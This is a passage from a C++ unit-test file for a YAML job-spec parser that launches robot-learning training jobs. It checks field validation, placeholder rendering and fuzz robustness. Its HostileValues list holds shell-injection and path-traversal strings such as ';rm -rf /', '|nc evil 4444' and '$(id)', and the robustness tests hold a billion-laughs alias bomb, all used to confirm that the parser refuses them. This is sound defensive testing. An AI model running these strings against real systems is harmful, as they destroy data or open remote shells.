      {"UnbalancedClose", Edit(22, "  train: {argv: [python, 'data=}']}"),
       "line 22: templates.train.argv[1]:", "unbalanced '}'"},
      {"ShellVariableNeedsDoubledBraces", Edit(22, "  train: {shell: 'cd ${HOME} && python x'}"),
       "line 22: templates.train.shell:", "malformed placeholder {HOME}"},
      {"UnknownPlaceholderInEnv", Edit(22, "  train: {argv: [x], env: {A: '{nope}'}}"),
       "line 22: templates.train.env.A:", "unknown placeholder {nope}"},
      {"UnknownPlaceholderInCheckpoint", Edit(22, "  train: {argv: [x], checkpoint: '{out}/x'}"),
       "line 22: templates.train.checkpoint:", "unknown placeholder {out}"},
      {"FinetuneWithoutInit", Edit(24, "  finetune: {argv: [python, train.py, '{dataset}']}"),
       "line 24: templates.finetune:", "must use {init_checkpoint}"},
      {"SourceFinetuneWithoutInit",
       Edit(16, "    n_nt: [0, 1000]\n    templates:\n      finetune: {argv: [ft]}"),
       "line 18: sources[0].templates.finetune:", "must use {init_checkpoint}"},
      {"BadEnvName", Edit(22, "  train: {argv: [x], env: {1X: a}}"),
       "line 22: templates.train.env.1X:", "not a valid environment variable name"},
      {"ExitCodeZero", Edit(22, "  train: {argv: [x], no_retry_exit_codes: [0]}"),
       "line 22: templates.train.no_retry_exit_codes[0]:", "must be between 1 and 255"},
      {"ArgvNotStrings", Edit(22, "  train: {argv: [python, [a]]}"),
       "line 22: templates.train.argv[1]:", "expected a string, got a list"},
      // Evaluation.
      {"NoScenarios", Edit(20, "  scenarios: []"), "line 20: evaluation.scenarios:",
       "must not be empty"},
      {"DuplicateScenario", Edit(20, "  scenarios: [in_domain, in_domain]"),
       "line 20: evaluation.scenarios[1]:", "duplicate scenario 'in_domain'"},
      {"ScenarioTrialsZero", Edit(20, "  scenarios: [{name: in_domain, trials: 0}]"),
       "line 20: evaluation.scenarios[0].trials:", "must be between 1 and 1000, got 0"},
      {"DefaultTrialsTooMany", Edit(20, "  trials_per_scenario: 1001\n  scenarios: [a]"),
       "line 20: evaluation.trials_per_scenario:", "must be between 1 and 1000, got 1001"},
      {"ScenarioMissingName", Edit(20, "  scenarios: [{trials: 3}]"),
       "line 20: evaluation.scenarios[0].name:", "missing required field"},
      // Resources, priority, attempts, costs.
      {"NegativeGpus", Append("resources: {gpus: -1}"), "line 25: resources.gpus:",
       "must be between 0 and 64, got -1"},
      {"NegativeMemory", Append("resources: {min_gpu_memory_gib: -1}"),
       "line 25: resources.min_gpu_memory_gib:", "must be >= 0"},
      {"NanMemory", Append("resources: {min_gpu_memory_gib: .NaN}"),
       "line 25: resources.min_gpu_memory_gib:", "must be a finite number"},
      {"PriorityTooHigh", Append("priority: 1001"), "line 25: priority:",
       "must be between -1000 and 1000"},
      {"MaxAttemptsZero", Append("max_attempts: 0"), "line 25: max_attempts:",
       "must be between 1 and 100"},
      {"MaxAttemptsTooMany", Append("max_attempts: 101"), "line 25: max_attempts:",
       "must be between 1 and 100"},
      {"PriceNotFinite", Append("costs: {gpu_hour_price: -.inf}"), "line 25: costs.gpu_hour_price:",
       "must be a finite number"},
      {"BadCurrency", Append("costs: {currency: usd}"), "line 25: costs.currency:",
       "three-letter currency code"},
      // Strings.
      {"NameTooLong", Append("name: " + long_name), "line 25: name:", "is 200 characters long"},
      {"ControlCharacterInName", Append("name: \"a\\tb\""), "line 25: name:",
       "must not contain control characters"},
      {"UriTooLong", Edit(10, "  dataset: {uri: x" + std::string(5000, 'y') + ", episodes: 200}"),
       "line 10: teleop.dataset.uri:", "at most 4096"},
      {"EmptyUri", Edit(10, "  dataset: {uri: '', episodes: 200}"), "line 10: teleop.dataset.uri:",
       "must not be empty"},
      // Found by fuzz/spec_fuzzer: yaml-cpp writes the escapes \N and \_ as the
      // single bytes 0x85 and 0xA0, not as UTF-8; such a string reached the
      // JSON subset manifest (nlohmann throws on it when a worker leases the
      // job) and protobuf string fields.
      {"NelEscapeInName", Append("name: \"a\\Nb\""), "line 25: name:", "not valid UTF-8"},
      {"NbspEscapeInUri", Edit(10, "  dataset: {uri: \"file:///data/t\\_x\", episodes: 200}"),
       "line 10: teleop.dataset.uri:", "not valid UTF-8"},
      {"NelEscapeInArgv", Edit(22, "  train: {argv: [python, \"x\\N{dataset}\"]}"),
       "line 22: templates.train.argv[1]:", "not valid UTF-8"},
      {"NbspEscapeInLabelName", Append("resources: {labels: {\"z\\_ne\": a}}"),
       "line 25: resources.labels.z\\xa0ne:", "label names must be"},
  };
}

INSTANTIATE_TEST_SUITE_P(Specs, BadSpecTest, ValuesIn(BadCases()),
                         [](const auto& info) { return info.param.name; });

// ---------------------------------------------------------------------------
// Identifiers and values that later become placeholder values ({task},
// {policy}, {code_version}, {dataset_hash}, {dataset}) or are matched
// against robots and workers: refused at submission when a worker would
// refuse them (or worse, run them).

// `text` as a YAML double-quoted scalar.
std::string YamlQuoted(std::string_view text) {
  std::string out = "\"";
  for (char c : text) {
    const auto u = static_cast<unsigned char>(c);
    if (c == '"' || c == '\\') {
      absl::StrAppend(&out, "\\", std::string(1, c));
    } else if (u < 0x20 || u == 0x7f) {
      absl::StrAppend(&out, "\\x", absl::Hex(u, absl::kZeroPad2));
    } else {
      out += c;
    }
  }
  return out + "\"";
}

// Where a value goes in kBase, and the "line L: path" an error names.
struct ValueField {
  std::string name;
  std::function<std::string(const std::string& quoted)> spec;
  std::string where;
  // The placeholder it becomes, if any, and that placeholder's kind.
  std::string placeholder;
};

std::vector<ValueField> ValueFields() {
  return {
      {"task", [](const std::string& q) { return Edit(3, "  name: " + q); }, "line 3: task.name:",
       "task"},
      {"policy", [](const std::string& q) { return Edit(8, "policy: " + q); }, "line 8: policy:",
       "policy"},
      {"code_version", [](const std::string& q) { return Append("code_version: " + q); },
       "line 25: code_version:", "code_version"},
      {"uri",
       [](const std::string& q) { return Edit(10, "  dataset: {uri: " + q + ", episodes: 200}"); },
       "line 10: teleop.dataset.uri:", "dataset"},
      {"content_hash",
       [](const std::string& q) {
         return Edit(10, "  dataset: {uri: \"file:///data/teleop\", content_hash: " + q +
                             ", episodes: 200}");
       },
       "line 10: teleop.dataset.content_hash:", "dataset_hash"},
      {"source", [](const std::string& q) { return Edit(13, "  - name: " + q); },
       "line 13: sources[0].name:", ""},
      {"scenario",
       [](const std::string& q) { return Edit(20, "  scenarios: [in_domain, " + q + "]"); },
       "line 20: evaluation.scenarios[1]:", ""},
      {"platform",
       [](const std::string& q) {
         return Edit(20, "  scenarios: [in_domain, {name: x, platform: " + q + "}]");
       },
       "line 20: evaluation.scenarios[1].platform:", ""},
      {"rubric name",
       [](const std::string& q) { return Edit(6, "      - {name: " + q + ", score: 0.5}"); },
       "line 6: task.rubric.milestones[0].name:", ""},
      {"label value",
       [](const std::string& q) { return Append("resources: {labels: {zone: " + q + "}}"); },
       "line 25: resources.labels.zone:", ""},
      {"label name",
       [](const std::string& q) { return Append("resources: {labels: {" + q + ": a}}"); },
       "line 25: resources.labels.", ""},
  };
}

// Values a worker would refuse in a placeholder, or that could escape a
// command, each appended to "x" (a valid start) unless it is the whole value.
struct Hostile {
  std::string text;
  bool whole = false;
};

std::vector<Hostile> HostileValues() {
  return {{";rm -rf /"}, {"&&curl evil"}, {"|nc evil 4444"}, {"$(id)"}, {"${HOME}"},
          {"`id`"}, {"\nrm -rf /"}, {"\rx"}, {std::string("\0x", 2)}, {"\tx"},
          {"/../etc/passwd"}, {"/a/../../b"}, {"/.."}, {"..", true}, {"\\..\\x"},
          {"/%2e%2e/etc"}, {"/%2e%2e%2fetc"}, {"/%252e%252e%252fetc"}, {"%3bid"},
          {"%253bid"}, {"%0aid"}, {"%60id%60"}, {"%24%28id%29"}, {"/%c0%ae%c0%ae/etc"},
          {"/%ef%bc%8e%ef%bc%8e/etc"}, {"/%u002e%u002e/etc"}, {"/%%32%65%%32%65/etc"},
          {"-rf", true}, {"--config=/evil.yaml", true}, {" --flag"}, {"'"}, {"\""},
          {"*"}, {"\xc3\xa9"}, {">/etc/passwd"}, {"<x"}, {".hidden", true}};
}

TEST(SpecParserInjectionTest, HostileValuesAreRefusedWithTheirLineAndField) {
  int refused = 0;
  for (const ValueField& field : ValueFields()) {
    for (const Hostile& hostile : HostileValues()) {
      const std::string value = hostile.whole ? hostile.text : "x" + hostile.text;
      const std::string yaml = field.spec(YamlQuoted(value));
      absl::StatusOr<ParsedSpec> parsed = ParseSweepSpec(yaml);
      ASSERT_FALSE(parsed.ok()) << field.name << " = " << absl::CHexEscape(value)
                                << " was accepted";
      EXPECT_EQ(parsed.status().code(), absl::StatusCode::kInvalidArgument);
      ExpectWellFormed(Message(parsed.status()));
      EXPECT_THAT(Message(parsed.status()), HasSubstr(field.where))
          << field.name << " = " << absl::CHexEscape(value);
      ++refused;
    }
  }
  EXPECT_EQ(refused, static_cast<int>(ValueFields().size() * HostileValues().size()));
}

TEST(SpecParserInjectionTest, OrdinaryValuesAreAccepted) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"task", "Pick-Dual.Bottles"},       {"policy", "pi0_fast"},
      {"policy", "act"},                   {"code_version", "git:4f1c2e9"},
      {"code_version", "v1.2.3+local"},    {"code_version", "user@host:repo/branch=main"},
      {"uri", "s3://lab-bucket/robotwin2/sim"}, {"uri", "hf://lerobot/aloha_sim@v2.1"},
      {"uri", "/data/My%20Drive/demos~1/a+b=c,d"}, {"uri", "gs://bucket/a..b/c."},
      {"uri", "file:///data/teleop"},      {"content_hash", "sha256:9b2f0c7e5d41a8f3"},
      {"platform", "aloha-agilex-2.0"},    {"label value", "gpu-a100"},
      {"label value", ""},                 {"label name", "example.com/zone"},
  };
  for (const auto& [name, value] : cases) {
    for (const ValueField& field : ValueFields()) {
      if (field.name != name) continue;
      absl::StatusOr<ParsedSpec> parsed = ParseSweepSpec(field.spec(YamlQuoted(value)));
      EXPECT_TRUE(parsed.ok()) << name << " = " << value << ": " << parsed.status();
    }
  }
}

// What the parser accepts for a value that becomes a placeholder value, the
// worker's renderer renders: every hostile value, every ordinary one and a
// few borderline ones, through both.
TEST(SpecParserInjectionTest, EveryValueTheParserAcceptsRenders) {
  std::vector<std::string> values = {"pick_dual_bottles", "A", "0", "a:b", "a/b", "a=b@c+d",
                                     "file:///data/x", "/data/x", "s3://b/p", "x%20y", "x%41",
                                     "x%25y", "x..y", "x/.y", "x/./y", "x~y,z", "%41", "~x",
                                     "_x", "@x", "x" + std::string(127, 'y')};
  for (const Hostile& hostile : HostileValues()) {
    values.push_back(hostile.whole ? hostile.text : "x" + hostile.text);
  }
  int rendered = 0;
  for (const ValueField& field : ValueFields()) {
    if (field.placeholder.empty()) continue;
    const workers::PlaceholderInfo* info = nullptr;
    for (const workers::PlaceholderInfo& p : workers::KnownPlaceholders()) {
      if (p.name == field.placeholder) info = &p;
    }
    ASSERT_NE(info, nullptr) << field.placeholder;
    for (const std::string& value : values) {
      if (!ParseSweepSpec(field.spec(YamlQuoted(value))).ok()) continue;
      workers::JobValues job;
      job.output_dir = "/art/j";
      job.*std::get<std::string workers::JobValues::*>(info->field) = value;
      absl::Status status = workers::CheckPlaceholderValue(field.placeholder, job, {});
      EXPECT_TRUE(status.ok()) << field.name << " = " << absl::CHexEscape(value)
                               << " is accepted by the parser but not rendered: " << status;
      ++rendered;
    }
  }
  EXPECT_GT(rendered, 40);
}

TEST(SpecParserTest, ReportsEveryProblemInLineOrder) {
  std::string yaml = Edit(17, "seeds: [0, 0]");
  yaml = absl::StrCat(yaml, "priority: 5000\n");
  std::vector<std::string> lines = Lines(yaml);
  lines[10] = "  n_tele: [50, -1]";                             // line 11
  lines[17] = "protocol: {total_steps: 13000, pretrain_steps: 1, finetune_steps: 1}";  // 18
  auto parsed = ParseSweepSpec(absl::StrJoin(lines, "\n"));
  ASSERT_FALSE(parsed.ok());
  std::vector<std::string> got = Lines(Message(parsed.status()));
  ASSERT_EQ(got.size(), 4u) << Message(parsed.status());
  EXPECT_THAT(got[0], StartsWith("line 11: teleop.n_tele[1]: "));
  EXPECT_THAT(got[1], StartsWith("line 17: seeds[1]: "));
  EXPECT_THAT(got[2], StartsWith("line 18: protocol.pretrain_steps: "));
  EXPECT_THAT(got[3], StartsWith("line 25: priority: "));
}

TEST(SpecParserTest, NewerVersionReportsOnlyTheVersion) {
  auto parsed = ParseSweepSpec("version: 2\nnew_key_of_v2: 1\n");
  ASSERT_FALSE(parsed.ok());
  EXPECT_EQ(Message(parsed.status()),
            "line 1: version: unsupported version 2; this mixsweep reads version 1");
}

TEST(SpecParserTest, ManyProblemsAreCapped) {
  std::string seeds = "seeds: [";
  for (int i = 0; i < 500; ++i) absl::StrAppend(&seeds, i == 0 ? "" : ", ", "-1");
  auto parsed = ParseSweepSpec(Edit(17, seeds + "]"));
  ASSERT_FALSE(parsed.ok());
  std::string message = Message(parsed.status());
  EXPECT_LE(Lines(message).size(), 101u);
  EXPECT_THAT(message, HasSubstr("more problems"));
}

// ---------------------------------------------------------------------------
// Robustness: whatever the input, an error and no crash (a libFuzzer target
// will hammer this later; these are its seeds).

void ExpectRefused(const std::string& text) {
  absl::StatusOr<ParsedSpec> parsed = ParseSweepSpec(text);
  ASSERT_FALSE(parsed.ok()) << text.substr(0, 200);
  EXPECT_EQ(parsed.status().code(), absl::StatusCode::kInvalidArgument);
  ExpectWellFormed(Message(parsed.status()));
}

TEST(SpecParserRobustnessTest, OddDocuments) {
  for (const char* text :
       {"", "~", "[]", "{}", "x", "42", "\"version: 1\"", "- version: 1", ":", "---", "...",
        "version: 1\n", "version: [1]", "version: {a: 1}", "version: 1\ntask: ~",
        "\t\tversion: 1", "version: 1\n  bad: indent", "{{{{", "]]]", "&a b: *a",
        "version: *missing", "%YAML 9.9\n---\nversion: 1", "!!binary x: 1",
        "version: 1\ntask: !!map {name: t}", "? ? ? ?", "\xff\xfe\x00\x01"}) {
    ExpectRefused(text);
  }
  ExpectRefused(std::string("version: 1\0\0\0", 13));
}

TEST(SpecParserRobustnessTest, DeepNesting) {
  ExpectRefused(std::string(100000, '['));
  ExpectRefused(std::string(100000, '{'));
  ExpectRefused("task: " + std::string(5000, '[') + std::string(5000, ']'));
  std::string block;
  for (int i = 0; i < 3000; ++i) absl::StrAppend(&block, std::string(i, ' '), "- \n");
  ExpectRefused(block);
}

TEST(SpecParserRobustnessTest, AnchorsAndAliases) {
  // A cycle: the sequence contains itself.
  ExpectRefused("version: 1\ntask: &a [1, *a]\nseeds: *a\n");
  // Billion laughs: nine levels of ten aliases each.
  std::string laughs = "version: 1\na0: &a0 [lol]\n";
  for (int i = 1; i < 10; ++i) {
    absl::StrAppend(&laughs, "a", i, ": &a", i, " [");
    for (int j = 0; j < 10; ++j) absl::StrAppend(&laughs, j ? ", " : "", "*a", i - 1);
    absl::StrAppend(&laughs, "]\n");
  }
  absl::StrAppend(&laughs, "seeds: *a9\nteleop: {n_tele: *a9}\n");
  ExpectRefused(laughs);
  // Aliases inside the known structure: argv shares one long string.
  std::string wide = absl::StrCat("x: &s '", std::string(1000, 'a'), "'\n");
  ExpectRefused(wide + "templates: {train: {argv: [" + std::string("*s, ") + "*s]}}");
}

TEST(SpecParserRobustnessTest, HugeAndOversizedValues) {
  ExpectRefused(Edit(17, "seeds: [" + std::string(400, '9') + "]"));
  ExpectRefused(Edit(17, "seeds: [1e999999]"));
  ExpectRefused(std::string(2 << 20, '#'));  // over the size limit
  std::string many_keys;
  for (int i = 0; i < 5000; ++i) absl::StrAppend(&many_keys, "k", i, ": 1\n");
  ExpectRefused(many_keys);
}

// Found by fuzz/spec_fuzzer: yaml-cpp's message quotes the offending
// character as it is ("unknown escape character: " and a raw control byte,
// a newline among them), which split the problem over two message lines.
TEST(SpecParserRobustnessTest, YamlErrorQuotingAControlCharacterStaysOneLine) {
  for (const std::string& text : {std::string("a: \"\\\x01\"\n"), std::string("a: \"\\\x1b\"\n"),
                                  std::string("\xff\x00\n", 3)}) {
    ExpectRefused(text);
    const std::string message = Message(ParseSweepSpec(text).status());
    EXPECT_EQ(Lines(message).size(), 1u) << message;
    EXPECT_NE(message.back(), '\n') << message;
    for (char c : message) {
      EXPECT_FALSE(static_cast<unsigned char>(c) < 0x20 || c == 0x7f)
          << "control character " << static_cast<int>(c) << " in: " << absl::CHexEscape(message);
    }
  }
  EXPECT_THAT(Message(ParseSweepSpec("a: \"\\\x01\"\n").status()),
              HasSubstr("unknown escape character: \\x01"));
}

// Random byte edits of a valid spec: every outcome is a value or an error.
TEST(SpecParserRobustnessTest, RandomMutationsNeverCrash) {
  std::mt19937 rng(20240611);
  const std::string base = kRankRgbBlocks;
  const std::string alphabet = "{}[]:,-&*!|>'\"#\n \t01/.abz_%@?~\\";
  for (int round = 0; round < 600; ++round) {
    std::string text = base;
    int edits = 1 + static_cast<int>(rng() % 8);
    for (int e = 0; e < edits && !text.empty(); ++e) {
      size_t at = rng() % text.size();
      switch (rng() % 4) {
        case 0: text.erase(at, 1 + rng() % 20); break;
        case 1: text.insert(at, 1, alphabet[rng() % alphabet.size()]); break;
        case 2: text[at] = static_cast<char>(rng() % 256); break;
        default: text.insert(at, text.substr(rng() % text.size(), rng() % 40)); break;
      }
    }
    absl::StatusOr<ParsedSpec> parsed = ParseSweepSpec(text);
    if (!parsed.ok()) {
      EXPECT_THAT(parsed.status().code(), ::testing::AnyOf(absl::StatusCode::kInvalidArgument,
                                                           absl::StatusCode::kResourceExhausted));
      ExpectWellFormed(Message(parsed.status()));
    }
  }
}

}  // namespace
}  // namespace mixsweep::spec
